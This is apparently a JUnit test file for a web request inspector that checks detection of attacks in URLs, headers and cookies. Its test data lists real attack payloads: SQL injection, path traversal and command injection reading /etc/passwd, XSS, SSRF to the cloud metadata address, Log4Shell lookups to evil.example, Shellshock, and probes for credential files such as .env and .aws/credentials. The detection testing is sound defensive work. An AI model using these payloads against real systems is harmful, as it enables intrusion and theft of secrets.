package dev.sluice.inspector.head;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sluice.inspector.BuiltinEngine;
import dev.sluice.inspector.Finding;
import dev.sluice.inspector.InspectionResult;
import dev.sluice.inspector.Inspector;
import dev.sluice.inspector.Outcome;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** {@link Inspector#inspectRequestHead} with the built-in catalog: what a request line and its headers report. */
class RequestHeadInspectionTest {
    private static final Inspector inspector = BuiltinEngine.inspector();

    private static InspectionResult inspect(String target, String... headers) {
        return inspector.inspectRequestHead(withFields(HeadBytes.request("GET", target), headers));
    }

    /** {@code head} with the fields {@code headers} names and values in turn. */
    static HeadBytes withFields(HeadBytes head, String... headers) {
        for (int i = 0; i < headers.length; i += 2) {
            head.header(headers[i], headers[i + 1]);
        }
        return head;
    }

    /** Each finding as {@code id@path}. */
    static List<String> found(InspectionResult r) {
        return r.findings().stream().map(f -> f.id() + "@" + f.path()).collect(Collectors.toList());
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "/p?id=1%20UNION%20SELECT%20password%20FROM%20users--|attack.sqli@query:id",
        "/static/..%2f..%2fetc%2fpasswd|attack.lfi@path",
        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E|attack.xss@query:q",
        "/fetch?url=http://169.254.169.254/latest/meta-data/|attack.ssrf@query:url",
        "/fetch?url=http://localhost:3000/admin|attack.ssrf@query:url",
        "/p?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D|attack.log4shell@query:x",
        "/ping?host=127.0.0.1%3Bcat%20/etc/passwd|attack.lfi@query:host",
        "/search?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1|attack.xss@query:(name)",
        "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x|attack.rce@query:(name)",
        "/.env|attack.lfi@path",
        "/app/%2Egit/config|attack.lfi@path",
        "/.aws/credentials?x=1|attack.lfi@path",
        "/.vscode/sftp.json|attack.lfi@path",
        "/app/.cursor/mcp.json|attack.lfi@path",
        "/.CLAUDE/settings.local.json|attack.lfi@path",
    })
    void attacksInTheTargetAreFound(String target, String expected) {
        assertTrue(found(inspect(target)).contains(expected), found(inspect(target)).toString());
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "user-agent|${jndi:ldap://evil.example/a}|attack.log4shell",
        "x-api-version|${jndi:ldap://evil.example/a}|attack.log4shell",
        "user-agent|() { :; }; /bin/bash -c id|attack.rce",
        "content-type|%{(#_memberAccess['allowStaticMethodAccess']=true)}|attack.rce",
        "referer|https://x.example/<script>alert(1)</script>|attack.xss",
        "x-forwarded-for|1' OR '1'='1|attack.sqli",
        "authorization|Bearer ${jndi:ldap://evil.example/a}|attack.log4shell",
        "x-filename|a.php|attack.rce",
        "x-file-name|fthi/sfewfda.phtml......|attack.rce",
        "x_filename|dangerous.phar|attack.rce",
        "x-file-name|../avatar.png|attack.lfi",
    })
    void attacksInHeadersAreFoundUnderTheirName(String name, String value, String id) {
        assertEquals(List.of(id + "@header:" + name), found(inspect("/", name, value)));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiter = '|', value = {
        "x-filename|report.pdf",
        "x-filename|index.php.txt",
        "referer|https://shop.example/index.php",
        "x-request-file|a.php",
    })
    void anUploadsEverydayNameOrAScriptNamedElsewhereReportsNothing(String name, String value) {
        assertEquals(List.of(), found(inspect("/", name, value)));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "<script>alert(1)</script>=value|attack.xss@cookie:(name)",
        "%3Cp%20style%3D%22background%3Aurl(javascript%3Aalert(1))%22%3E=941140|attack.xss@cookie:(name)",
        "a=1; __proto__[isAdmin]=1|attack.proto_pollution@cookie:(name)",
    })
    void attacksInCookieNamesAreFoundUnderCookieName(String cookie, String expected) {
        assertEquals(List.of(expected), found(inspect("/", "Cookie", cookie)));
    }

    @Test
    void everydayCookieNamesReportNothing() {
        assertEquals(List.of(), found(inspect("/", "Cookie",
                "_ga=GA1.2.3.4; __Host-csrf=abc; session-id=xyz; cookie consent=yes; pref[lang]=en; a%20b=1")));
    }

    @Test
    void attacksInCookiesAreFoundUnderTheCookiesName() {
        assertEquals(List.of("attack.sqli@cookie:id"), found(inspect("/", "Cookie", "theme=dark; id=1%27%20OR%20%271%27=%271")));
        // In a cookie of base64 JSON, as an Express cookie-session holds its state, under the member it is in.
        assertEquals(List.of("attack.sqli@cookie:prefs.q"), found(inspect("/", "Cookie",
                "theme=dark; prefs=eyJzb3J0IjoibmFtZSIsInEiOiJ4JyBPUiAnMSc9JzEnIC0tIn0=")));
    }

    @Test
    void personalDataAndSecretsAreReportedFromTheUrlOnly() {
        String jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0"
                + ".dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";
        InspectionResult r = inspect("/v1/cards/4111111111111111?token=" + jwt,
                "Authorization", "Bearer " + jwt, "Cookie", "session=" + jwt, "X-Card", "4111111111111111");
        assertEquals(List.of("credit_card@path", "jwt@query:token"), found(r));
        for (Finding f : r.findings()) {
            assertEquals(HeadFields.REQUEST_ORIGIN, f.origin());
        }
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
        "/callback?code=4%2F0AX4XfWh&state=xyz&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback",
        "/login?return_to=http://127.0.0.1:8080/dashboard",
        "/api/users?id=42&name=O%27Brien",
        "/search?q=select+a+plan&from=pricing",
        "/wiki/Union_(set_theory)",
        "/blog/2024/01/how-to-use-and-or-in-sql",
        "/api/search?q=drop+shipping+table+lamps",
        "/api/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
        "/go?url=https%3A%2F%2Fexample.org%2Fpage",
        "/api/notes?text=I+love+%22quotes%22+and+it%27s+fine",
        "/search?q=%3Cb%3Ebold%3C%2Fb%3E",
        "/api/v2/users/me/settings;jsessionid=ABC",
        "/img/../img/logo.png",
        "/.well-known/openid-configuration",
        "/docs/setup?file=.env",
        "/docs/editors/vscode/settings",
        "/search?q=.cursor+mcp.json",
        "/repos/acme.git/info/refs?service=git-upload-pack",
    })
    void everydayTargetsReportNothing(String target) {
        assertEquals(List.of(), found(inspect(target)));
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"browser-navigation.http", "api-clients.http"})
    void everydayHeadsReportNothing(String file) throws IOException {
        byte[] head;
        try (InputStream in = getClass().getResourceAsStream("/heads/" + file)) {
            head = in.readAllBytes();
        }
        String[] lines = new String(head, StandardCharsets.UTF_8).split("\r\n");
        String[] requestLine = lines[0].split(" ");
        List<String> fields = new ArrayList<>();
        for (int i = 1; i < lines.length && !lines[i].isEmpty(); i++) {
            int colon = lines[i].indexOf(':');
            fields.add(lines[i].substring(0, colon));
            fields.add(lines[i].substring(colon + 1).strip());
        }
        InspectionResult r = inspect(requestLine[1], fields.toArray(String[]::new));
        assertEquals(List.of(), found(r));
        assertEquals(Outcome.COMPLETE, r.outcome());
    }

    @Test
    void aHeadOverItsLimitIsInspectedUpToItAndSaysSo() {
        HeadBytes head = HeadBytes.request("GET", "/?q=1%20UNION%20SELECT%20a%20FROM%20b--");
        for (int i = 0; i < 100; i++) {
            head.header("x-filler-" + i, "f".repeat(1000));
        }
        assertTrue(head.truncated());
        InspectionResult r = inspector.inspectRequestHead(head);
        assertEquals(Outcome.INSPECTED_BYTES_LIMIT, r.outcome());
        assertEquals(List.of("attack.sqli@query:q"), found(r));
        assertTrue(head.bytes().length <= HeadBytes.MAX_BYTES);
    }

    /** An HTTP/2 :path may carry a space a request line cannot: the whole query is still read. */
    @Test
    void aSpaceInTheTargetDoesNotEndIt() {
        assertEquals(List.of("attack.sqli@query:q"),
                found(inspector.inspectRequestHead(HeadBytes.request("GET", "/s?x=1&q=1 UNION SELECT a FROM b--"))));
    }

    @Test
    void lineBreaksInAValueCannotForgeAnotherField() {
        HeadBytes head = HeadBytes.request("GET", "/").header("X-A", "safe\r\nCookie: id=1' OR '1'='1");
        assertEquals(List.of(), found(inspector.inspectRequestHead(head)));
    }
}
